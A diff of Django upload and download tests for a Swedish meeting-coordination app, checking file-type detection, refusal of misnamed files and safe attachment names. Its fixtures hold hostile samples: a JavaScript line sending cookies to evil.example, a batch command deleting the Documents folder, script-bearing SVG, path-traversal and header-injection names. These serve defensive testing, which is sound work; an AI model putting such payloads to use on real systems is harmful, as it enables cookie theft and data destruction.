@@ -1,5 +1,5 @@
-"""Documents through real multipart requests: the size limit while streaming, the type from the content,
-safe names, downloads that cannot run in a browser, and replacements that keep the old file.
+"""Documents through real multipart requests: the size limit while streaming, the type from the content and
+the name together, safe names, downloads that cannot run in a browser, and replacements that keep the old file.
 
 Every upload goes through the Django test client, so Django's MultiPartParser
 and settings.FILE_UPLOAD_HANDLERS (SizeLimitUploadHandler first) do the work
@@ -12,7 +12,7 @@ import re
 import struct
 import zipfile
 import zlib
-from urllib.parse import quote
+from urllib.parse import quote, unquote
 
 import pytest
 from django.contrib.messages import get_messages
@@ -27,7 +27,7 @@ from coordination import documents
 from coordination.models import Document, Event
 from coordination.services import agenda
 
-from .agenda_support import add_item
+from .agenda_support import add_item, attach
 
 # Pages are read in English, the msgids: stable while the Swedish text is being written.
 pytestmark = pytest.mark.usefixtures("english")
@@ -35,7 +35,9 @@ pytestmark = pytest.mark.usefixtures("english")
 
 MiB = 1024 * 1024
 LIMIT_ERROR = "The file is larger than the limit of 1 MB."
-TYPE_ERROR = "The file&#x27;s content is not one of the allowed types"
+TYPE_ERROR = (
+    "Samråd accepts only these kinds of file: PDF, DOCX, XLSX, PPTX, ODT, ODS, ODP, PNG, JPEG, GIF, WebP, TXT or CSV."
+)
 HEX_NAME = re.compile(r"^[0-9a-f]{32}$")
 
 
@@ -167,6 +169,34 @@ def plain_zip():
     return buffer.getvalue()
 
 
+def pptx():
+    return ooxml(
+        "ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
+    )
+
+
+def jpeg():
+    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 32 + b"\xff\xd9"
+
+
+def gif():
+    return b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
+
+
+def webp():
+    payload = b"WEBPVP8L" + struct.pack("<I", 10) + b"\x2f\x00\x00\x00\x10\x07\x10\x11\x11\x88"
+    return b"RIFF" + struct.pack("<I", len(payload)) + payload
+
+
+def zip_of(*names):
+    """A zip archive that is no office document: a plain archive, a Java archive, an Android app."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        for name in names:
+            archive.writestr(name, b"\xca\xfe\xba\xbe")
+    return buffer.getvalue()
+
+
 def exe():
     return (
         b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
@@ -180,10 +210,11 @@ HTML = (
 )
 TEXT = "Underlag för dialogen\n\nÅtgärder i Gottsunda: lokaler, bemanning, tidplan. Väl mött på mötet – åäö ÅÄÖ.\n".encode()
 
+CSV = "Part;Ärende;Tid\nUppsala kommun;Lokaler;10:00\nPolisen;Bemanning;10:30\n".encode()
+
 ACCEPTED = [
-    # uploaded name, content, what the browser claims, the type detected from the content
+    # uploaded name, content, what the browser claims, the type of the content and the name together
     ("underlag.pdf", pdf(), "application/pdf", "application/pdf"),
-    ("karta.png", png(), "image/png", "image/png"),
     (
         "underlag.docx",
         docx(),
@@ -197,6 +228,12 @@ ACCEPTED = [
         "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
     ),
     (
+        "bildspel.pptx",
+        pptx(),
+        "application/octet-stream",
+        "application/vnd.openxmlformats-officedocument.presentationml.presentation",
+    ),
+    (
         "underlag.odt",
         opendocument("application/vnd.oasis.opendocument.text"),
         "application/octet-stream",
@@ -208,21 +245,61 @@ ACCEPTED = [
         "application/octet-stream",
         "application/vnd.oasis.opendocument.spreadsheet",
     ),
+    (
+        "bildspel.odp",
+        opendocument("application/vnd.oasis.opendocument.presentation"),
+        "application/octet-stream",
+        "application/vnd.oasis.opendocument.presentation",
+    ),
+    ("karta.png", png(), "image/png", "image/png"),
+    ("foto.jpg", jpeg(), "image/jpeg", "image/jpeg"),
+    ("FOTO.JPEG", jpeg(), "image/jpeg", "image/jpeg"),  # the ending in any case
+    ("skiss.gif", gif(), "image/gif", "image/gif"),
+    ("skiss.webp", webp(), "image/webp", "image/webp"),
     ("anteckningar.txt", TEXT, "text/plain", "text/plain"),
-    ("skannad-sida", pdf(), "application/octet-stream", "application/pdf"),  # no extension: the content decides
-    ("kalkyl.pdf", xlsx(), "application/pdf", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
+    ("deltagare.csv", CSV, "text/csv", "text/csv"),
 ]
 
+# Content that is no allowed kind, whatever the name.
 REFUSED = [
     ("report.pdf", exe(), "application/pdf"),
+    ("setup.exe", exe(), "application/x-msdownload"),
     ("notes.pdf", HTML, "application/pdf"),
     ("notes.txt", HTML, "text/plain"),
     ("notes.txt", b"   \n<HTML><body onload=alert(1)>", "text/plain"),
     ("bild.png", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "image/png"),
     ("bild.txt", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', "text/plain"),
     ("underlag.docx", plain_zip(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
+    ("arkiv.zip", plain_zip(), "application/zip"),
+    ("program.jar", zip_of("META-INF/MANIFEST.MF", "se/Main.class"), "application/java-archive"),
+    ("app.apk", zip_of("AndroidManifest.xml", "classes.dex"), "application/vnd.android.package-archive"),
     ("data.txt", b"binary\x00\x01\x02 data", "text/plain"),
     ("latin1.txt", "Åtgärder".encode("latin-1"), "text/plain"),
+]
+
+# Content of an allowed kind under a name that does not end as that kind does: what a browser or the
+# desktop would run or render, however plain the text inside (issue 13).
+# What the refusal says the content is, and how the name must end.
+AS_TEXT = ("TXT or CSV", ".txt or .csv")
+AS_PDF = ("PDF", ".pdf")
+AS_XLSX = ("XLSX", ".xlsx")
+
+MISNAMED = [
+    ("stats.js", b"fetch('https://evil.example/?c=' + document.cookie)\n", "text/javascript", AS_TEXT),
+    ("rensa.bat", b"@echo off\r\ndel /q %USERPROFILE%\\Documents\\*\r\n", "application/x-bat", AS_TEXT),
+    ("hej.vbs", b'CreateObject("WScript.Shell").Run "calc.exe"\r\n', "text/vbscript", AS_TEXT),
+    ("app.hta", b"Tryck pa knappen for att uppdatera\r\n", "application/hta", AS_TEXT),
+    ("lank.url", b"[InternetShortcut]\r\nURL=https://evil.example/\r\n", "text/plain", AS_TEXT),
+    ("setup.exe", b"Just some text, honestly.\n", "application/x-msdownload", AS_TEXT),
+    ("sida.html", b"Plain words that a browser would render as a page.\n", "text/html", AS_TEXT),
+    ("sida.htm", b"Plain words.\n", "text/html", AS_TEXT),
+    ("bild.svg", b"Plain words.\n", "image/svg+xml", AS_TEXT),
+    ("sida.xhtml", b"Plain words.\n", "application/xhtml+xml", AS_TEXT),
+    ("rapport.exe", pdf(), "application/pdf", AS_PDF),  # a PDF renamed .exe
+    ("rapport.pdf", TEXT, "application/pdf", AS_TEXT),  # a text file renamed .pdf
+    ("kalkyl.pdf", xlsx(), "application/pdf", AS_XLSX),
+    ("skannad-sida", pdf(), "application/octet-stream", AS_PDF),  # no ending at all
+    ("\u202etxt.exe", TEXT, "text/plain", AS_TEXT),  # right-to-left override: shows as exe.txt
 ]
 
 
@@ -248,9 +325,44 @@ def test_a_file_whose_content_is_not_allowed_is_refused_whatever_its_name_says(
     response = upload(uploader, upload_url(item), name, content, claimed)
 
     assert response.status_code == 200
-    assert TYPE_ERROR in response.content.decode()
+    assert response.context["form"].errors == {"file": [TYPE_ERROR + " This file's content is none of them."]}
     assert not Document.objects.exists()
     assert stored_files(documents_dir) == []
+
+
+@pytest.mark.parametrize("name, content, claimed, said", MISNAMED, ids=[f"{m[0]}-{i}" for i, m in enumerate(MISNAMED)])
+def test_a_file_whose_name_does_not_end_as_its_content_is_refused_with_the_ending_to_give_it(
+    uploader, item, documents_dir, name, content, claimed, said
+):
+    response = raw_upload(uploader, upload_url(item), name, content, claimed)
+
+    assert response.status_code == 200
+    kind, endings = said
+    assert response.context["form"].errors == {
+        "file": [
+            f"The file's content is {kind}, but its name does not end in {endings}. "
+            "Rename the file so that it does, and add it again."
+        ]
+    }
+    assert not Document.objects.exists()
+    assert stored_files(documents_dir) == []
+
+
+def test_the_refusals_are_in_plain_swedish(item, documents_dir, kommun_coordinator):
+    client = Client(HTTP_ACCEPT_LANGUAGE="sv")
+    client.force_login(kommun_coordinator)
+
+    misnamed = raw_upload(client, upload_url(item), "stats.js", b"alert(1)\n", "text/javascript")
+    archive = upload(client, upload_url(item), "arkiv.zip", plain_zip(), "application/zip")
+
+    assert misnamed.context["form"].errors["file"] == [
+        "Filens innehåll är TXT eller CSV, men namnet slutar inte på .txt eller .csv. "
+        "Byt namn på filen så att det gör det och lägg till den igen."
+    ]
+    assert archive.context["form"].errors["file"] == [
+        "Samråd tar bara emot de här filtyperna: PDF, DOCX, XLSX, PPTX, ODT, ODS, ODP, PNG, JPEG, GIF, WebP, "
+        "TXT eller CSV. Den här filens innehåll är ingen av dem."
+    ]
 
 
 @pytest.mark.parametrize(
@@ -268,12 +380,13 @@ def test_an_html_file_is_refused_also_after_a_byte_order_mark_or_a_comment(uploa
     assert not Document.objects.exists()
 
 
-def test_content_detection_reads_the_content_not_the_name():
+def test_the_allowed_type_is_where_the_content_and_the_name_agree():
     """The pure function, on the same files."""
     for name, content, _claimed, detected in ACCEPTED:
-        assert documents.detect_content_type(SimpleUploadedFile(name, content)) == detected, name
-    for name, content, _claimed in REFUSED:
-        assert documents.detect_content_type(SimpleUploadedFile(name, content)) is None, name
+        assert documents.allowed_type(SimpleUploadedFile(name, content), name) == detected, name
+    for name, content, _claimed, *_said in REFUSED + MISNAMED:
+        with pytest.raises(documents.NotAllowed):
+            documents.allowed_type(SimpleUploadedFile(name, content), documents.display_name(name))
 
 
 # The size limit, while the file streams in.
@@ -432,6 +545,20 @@ def test_the_display_name_function_drops_paths_and_control_characters():
 
 # Downloads.
 
+# An attachment with an ASCII stand-in name a client cannot misread, and the full name in RFC 5987 form.
+DISPOSITION = re.compile(r"""^attachment; filename="([A-Za-z0-9 ()_.,+-]+)"; filename\*=utf-8''([A-Za-z0-9%._~-]+)$""")
+
+
+def saved_as(response):
+    """The (stand-in, full) names a browser saves the download under, after checking the header's form."""
+    match = DISPOSITION.match(response["Content-Disposition"])
+    assert match, response["Content-Disposition"]
+    return match.group(1), unquote(match.group(2))
+
+
+def download(client, document):
+    return client.get(reverse("document_download", args=[document.agenda_item.meeting_id, document.pk]))
+
 
 def test_a_download_is_an_attachment_that_is_never_sniffed_with_the_bytes_and_checksum_of_the_upload(
     uploader, item, documents_dir, polis_member
@@ -442,10 +569,10 @@ def test_a_download_is_an_attachment_that_is_never_sniffed_with_the_bytes_and_ch
     reader = Client(HTTP_ACCEPT_LANGUAGE="en")
     reader.force_login(polis_member)  # another party: the item's documents are for every party
 
-    response = reader.get(reverse("document_download", args=[item.meeting_id, document.pk]))
+    response = download(reader, document)
 
     assert response.status_code == 200
-    assert response["Content-Disposition"] == 'attachment; filename="underlag.pdf"'
+    assert response["Content-Disposition"] == "attachment; filename=\"underlag.pdf\"; filename*=utf-8''underlag.pdf"
     assert response["X-Content-Type-Options"] == "nosniff"
     assert response["Content-Type"] == "application/pdf"
     assert downloaded(response) == content
@@ -454,30 +581,68 @@ def test_a_download_is_an_attachment_that_is_never_sniffed_with_the_bytes_and_ch
     assert checksum == hashlib.sha256(content).hexdigest()
 
 
-@pytest.mark.parametrize("name, content, claimed, detected", [ACCEPTED[0], ACCEPTED[6]], ids=["pdf", "txt"])
+@pytest.mark.parametrize("name, content, claimed, detected", ACCEPTED, ids=[a[0] for a in ACCEPTED])
 def test_a_download_has_the_detected_content_type_not_the_claimed_one(
     uploader, item, documents_dir, name, content, claimed, detected
 ):
-    upload(uploader, upload_url(item), "renamed.bin", content, "text/html")
+    upload(uploader, upload_url(item), name, content, "text/html")
     document = Document.objects.get()
 
-    response = uploader.get(reverse("document_download", args=[item.meeting_id, document.pk]))
+    response = download(uploader, document)
 
     assert response["Content-Type"] == detected
-    assert response["Content-Disposition"].startswith("attachment;")
+    assert saved_as(response)[1] == name
     assert downloaded(response) == content
 
 
-def test_a_name_with_quotes_and_non_ascii_letters_is_a_well_formed_attachment_header(uploader, item, documents_dir):
-    raw_upload(uploader, upload_url(item), 'Svar "slutligt" åäö.txt', TEXT)
-    document = Document.objects.get()
+# Names as they may be stored: from uploads before names were cleaned, or written by hand. As stored, what the
+# ASCII stand-in is, and the full name saved.
+STORED_NAMES = [
+    ('Svar "slutligt" åäö.txt', "Svar _slutligt_ aao.txt", 'Svar "slutligt" åäö.txt'),
+    ('a"; filename="evil.html.txt', "a__ filename__evil.html.txt", 'a"; filename="evil.html.txt'),
+    ("rapport\r\nSet-Cookie: x=1.txt", "rapportSet-Cookie_ x_1.txt", "rapportSet-Cookie: x=1.txt"),
+    ("../../etc/passwd.txt", "passwd.txt", "passwd.txt"),
+    ("..\\..\\boot.ini.txt", "boot.ini.txt", "boot.ini.txt"),
+    ("Åtgärder.txt", "Atgarder.txt", "Åtgärder.txt"),
+    ("Заметки.txt", "dokument.txt", "Заметки.txt"),
+    ("å" * 300 + ".txt", "a" * 190 + ".txt", "å" * 190 + ".txt"),
+    ("evil.html", "evil.html.txt", "evil.html.txt"),
+    ("stats.js", "stats.js.txt", "stats.js.txt"),
+    ("skannad-sida", "skannad-sida.txt", "skannad-sida.txt"),
+]
 
-    response = uploader.get(reverse("document_download", args=[item.meeting_id, document.pk]))
 
-    disposition = response["Content-Disposition"]
-    assert disposition.startswith("attachment; filename*=utf-8''")
-    assert "\n" not in disposition and '"' not in disposition.split("''", 1)[1]
-    assert quote('Svar "slutligt" åäö.txt') in disposition
+@pytest.mark.parametrize(
+    "stored, stand_in, full", STORED_NAMES, ids=[f"stored-name-{i}" for i in range(len(STORED_NAMES))]
+)
+def test_a_download_is_saved_under_a_safe_name_ending_as_its_type_does(
+    uploader, item, documents_dir, kommun, kommun_coordinator, stored, stand_in, full
+):
+    document = attach(item, kommun, kommun_coordinator, stored, TEXT)
+
+    response = download(uploader, document)
+
+    assert response.status_code == 200
+    assert saved_as(response) == (stand_in, full)
+    assert response["Content-Type"] == "text/plain"
+    assert downloaded(response) == TEXT
+
+
+def test_a_stored_document_of_a_type_no_longer_accepted_still_downloads_as_bytes_to_save(
+    uploader, item, documents_dir, kommun, kommun_coordinator
+):
+    """A document stored before the allow-list (here a web page) stays available to the parties, who may need
+    it for the record, but never as a page: as bytes under a name no browser or desktop runs."""
+    document = attach(item, kommun, kommun_coordinator, "karta.html", HTML, content_type="text/html")
+
+    response = download(uploader, document)
+
+    assert response.status_code == 200
+    assert response["Content-Type"] == "application/octet-stream"
+    assert response["X-Content-Type-Options"] == "nosniff"
+    assert saved_as(response) == ("karta.html.bin", "karta.html.bin")
+    assert downloaded(response) == HTML
+    assert ">karta.html</a>" in item_page(uploader, item)  # the page shows the name it was given
 
 
 # Replacing a document keeps the old one.
